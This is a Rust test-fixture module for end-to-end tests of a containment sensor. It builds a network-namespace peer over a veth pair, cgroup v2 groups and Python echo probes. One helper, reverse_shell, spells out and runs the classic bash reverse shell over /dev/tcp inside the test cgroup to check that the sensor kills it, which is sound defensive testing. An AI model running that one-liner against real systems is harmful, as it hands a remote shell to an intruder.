//! Network fixtures for end-to-end tests: a peer in a network namespace reached over a veth
//! pair, a cgroup standing for "the host" a sensor contains, and probes run inside it.

use std::{
    io::{BufRead as _, BufReader, Write as _},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::Duration,
};

pub fn sh(cmd: &str) {
    let out = Command::new("sh")
        .args(["-c", cmd])
        .output()
        .expect("run sh");
    assert!(
        out.status.success(),
        "{cmd}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A network namespace holding the peer, joined to this one by a veth pair: the host side is
/// `10.N.0.1`, the peer `10.N.0.2`. Deleted on drop (with its listeners).
pub struct Peer {
    ns: String,
    host_if: String,
    /// The namespace's end of the pair.
    peer_if: String,
    pub addr: String,
    listeners: Option<Child>,
}

/// Echo listeners on the ports given; a port written `NNNNs` only swallows what it gets.
const ECHO: &str = r#"
import socket, sys, threading
def serve(port, echo):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port)); s.listen(64)
    while True:
        c, _ = s.accept()
        def talk(c):
            try:
                while True:
                    d = c.recv(100)
                    if not d: break
                    if echo: c.sendall(d)
            except OSError:
                pass
        threading.Thread(target=talk, args=(c,), daemon=True).start()
for p in sys.argv[1:]:
    threading.Thread(target=serve, args=(int(p.rstrip("s")), not p.endswith("s")), daemon=True).start()
print("listening", flush=True)
sys.stdin.read()
"#;

impl Peer {
    pub fn new(ports: &[u16]) -> Self {
        Self::with(ports, &[])
    }

    /// Echo listeners on `ports`, and listeners on `sinks` that only swallow input.
    pub fn with(ports: &[u16], sinks: &[u16]) -> Self {
        let id = std::process::id() % 200 + 20;
        let ns = format!("vigil-t{id}");
        let host_if = format!("vt{id}h");
        let _ = Command::new("ip").args(["netns", "del", &ns]).output();
        let _ = Command::new("ip").args(["link", "del", &host_if]).output();
        sh(&format!(
            "ip netns add {ns} && ip link add {host_if} type veth peer name vt{id}n && \
             ip link set vt{id}n netns {ns} && ip addr add 10.{id}.0.1/30 dev {host_if} && \
             ip link set {host_if} up && ip -n {ns} addr add 10.{id}.0.2/30 dev vt{id}n && \
             ip -n {ns} link set vt{id}n up && ip -n {ns} link set lo up"
        ));
        let mut peer = Self {
            ns: ns.clone(),
            host_if,
            peer_if: format!("vt{id}n"),
            addr: format!("10.{id}.0.2"),
            listeners: None,
        };
        let mut child = Command::new("ip")
            .args(["netns", "exec", &ns, "python3", "-c", ECHO])
            .args(ports.iter().map(ToString::to_string))
            .args(sinks.iter().map(|p| format!("{p}s")))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("start the peer's listeners");
        let mut line = String::new();
        let out = child.stdout.take().expect("stdout");
        BufReader::new(out).read_line(&mut line).expect("read");
        assert_eq!(line.trim(), "listening");
        peer.listeners = Some(child);
        peer
    }
}

impl Peer {
    /// The namespace's name, for `ip netns exec`.
    pub fn ns(&self) -> &str {
        &self.ns
    }

    /// Cuts the link: the namespace's end of the veth pair goes down, so what the host sends
    /// is dropped on the way, as on a cut cable (no error comes back to the sender).
    pub fn cut(&self) {
        sh(&format!("ip -n {} link set {} down", self.ns, self.peer_if));
    }

    /// Mends what [`Self::cut`] cut.
    pub fn mend(&self) {
        sh(&format!("ip -n {} link set {} up", self.ns, self.peer_if));
    }
}

impl Drop for Peer {
    fn drop(&mut self) {
        if let Some(mut c) = self.listeners.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
        let _ = Command::new("ip").args(["netns", "del", &self.ns]).output();
        let _ = Command::new("ip")
            .args(["link", "del", &self.host_if])
            .output();
    }
}

/// A cgroup v2 group standing for "the host" the sensor contains. On drop, whatever runs in
/// it (and in the groups the response made under it) is killed and the groups removed.
pub struct Cgroup {
    pub path: PathBuf,
}

impl Cgroup {
    /// Makes a group for this test process under the cgroup v2 mount.
    pub fn create() -> Self {
        let mounts = std::fs::read_to_string("/proc/self/mounts").expect("mounts");
        let mount = mounts
            .lines()
            .find_map(|l| {
                let f: Vec<&str> = l.split_whitespace().collect();
                (f.get(2) == Some(&"cgroup2")).then(|| PathBuf::from(f[1]))
            })
            .expect("a cgroup2 mount");
        // One group per call: tests of one binary run side by side, and each removes its own.
        static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let path = mount.join(format!("vigil-test-{}-{n}", std::process::id()));
        let _ = std::fs::create_dir(&path);
        Self { path }
    }

    pub fn arg(&self) -> &str {
        self.path.to_str().expect("utf-8 path")
    }

    /// `sh -c` that moves itself into the group, then execs `script` (its `$0` and `$@` are
    /// the arguments added to the command).
    pub fn command(&self, script: &str) -> Command {
        let mut c = Command::new("sh");
        c.arg("-c").arg(format!(
            "echo $$ > {}/cgroup.procs && exec {script}",
            self.arg()
        ));
        c
    }

    /// Runs the program at `path` inside the group and waits for it, which must succeed.
    pub fn run(&self, path: &str) {
        let st = self.command(path).status().expect("run sh");
        assert!(st.success(), "{path} in {}: {st}", self.arg());
    }

    /// Runs python `code` (with `args`) inside the group; its stdout is piped.
    pub fn python(&self, code: &str, args: &[&str]) -> Child {
        self.command("python3 -c \"$0\" \"$@\"")
            .arg(code)
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("spawn python in the cgroup")
    }
}

fn kill_and_remove(dir: &Path) {
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.filter_map(Result::ok) {
            if e.path().is_dir() {
                kill_and_remove(&e.path());
            }
        }
    }
    let _ = std::fs::write(dir.join("cgroup.freeze"), "0");
    let _ = std::fs::write(dir.join("cgroup.kill"), "1");
    for _ in 0..100 {
        if std::fs::remove_dir(dir).is_ok() || !dir.exists() {
            return;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

impl Drop for Cgroup {
    fn drop(&mut self) {
        kill_and_remove(&self.path);
    }
}

/// Connects to each port of `addr` from inside the group and echoes a byte: `reach` or
/// `fail: why` per port.
pub const PROBE: &str = r#"
import socket, sys
addr = sys.argv[1]
for port in sys.argv[2:]:
    try:
        s = socket.create_connection((addr, int(port)), timeout=1.5)
        s.sendall(b"x"); s.settimeout(1.5)
        print(port, "reach" if s.recv(1) == b"x" else "fail: no echo", flush=True)
        s.close()
    except Exception as e:
        print(port, "fail:", e, flush=True)
"#;

/// Runs the classic bash reverse shell (`bash -i >& /dev/tcp/ADDR/PORT 0>&1`) inside `cg`
/// and waits for it; its exit status (a containing sensor kills it).
pub fn reverse_shell(cg: &Cgroup, addr: &str, port: u16) -> std::process::ExitStatus {
    cg.command(&format!("bash -c 'bash -i >& /dev/tcp/{addr}/{port} 0>&1'"))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .expect("run the reverse shell")
}

pub fn probe(cg: &Cgroup, addr: &str, ports: &[u16]) -> Vec<(u16, String)> {
    let ports: Vec<String> = ports.iter().map(ToString::to_string).collect();
    let mut args = vec![addr];
    args.extend(ports.iter().map(String::as_str));
    let out = cg
        .python(PROBE, &args)
        .wait_with_output()
        .expect("probe output");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| {
            let (port, rest) = l.split_once(' ')?;
            Some((port.parse().ok()?, rest.to_owned()))
        })
        .collect()
}

pub fn reaches(results: &[(u16, String)], port: u16) -> bool {
    results.iter().any(|(p, r)| *p == port && r == "reach")
}

/// Holds one connection open: echoes a byte at once, then once per line read on stdin,
/// printing `ok` or `cut: why` each time.
const HOLD: &str = r#"
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=2)
s.settimeout(1.5)
def echo():
    try:
        s.sendall(b"y")
        return "ok" if s.recv(1) == b"y" else "cut: no echo"
    except Exception as e:
        return "cut: %s" % e
print(echo(), flush=True)
for _ in sys.stdin:
    print(echo(), flush=True)
"#;

pub struct Held {
    child: Child,
    out: BufReader<std::process::ChildStdout>,
}

impl Held {
    pub fn open(cg: &Cgroup, addr: &str, port: u16) -> Self {
        let mut child = cg.python(HOLD, &[addr, &port.to_string()]);
        let out = BufReader::new(child.stdout.take().expect("stdout"));
        let mut held = Self { child, out };
        assert_eq!(held.line(), "ok", "the connection works before containment");
        held
    }

    fn line(&mut self) -> String {
        let mut l = String::new();
        self.out.read_line(&mut l).expect("read");
        l.trim().to_owned()
    }

    pub fn echo(&mut self) -> String {
        let stdin = self.child.stdin.as_mut().expect("stdin");
        stdin.write_all(b"\n").expect("write");
        stdin.flush().expect("flush");
        self.line()
    }
}

impl Drop for Held {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}
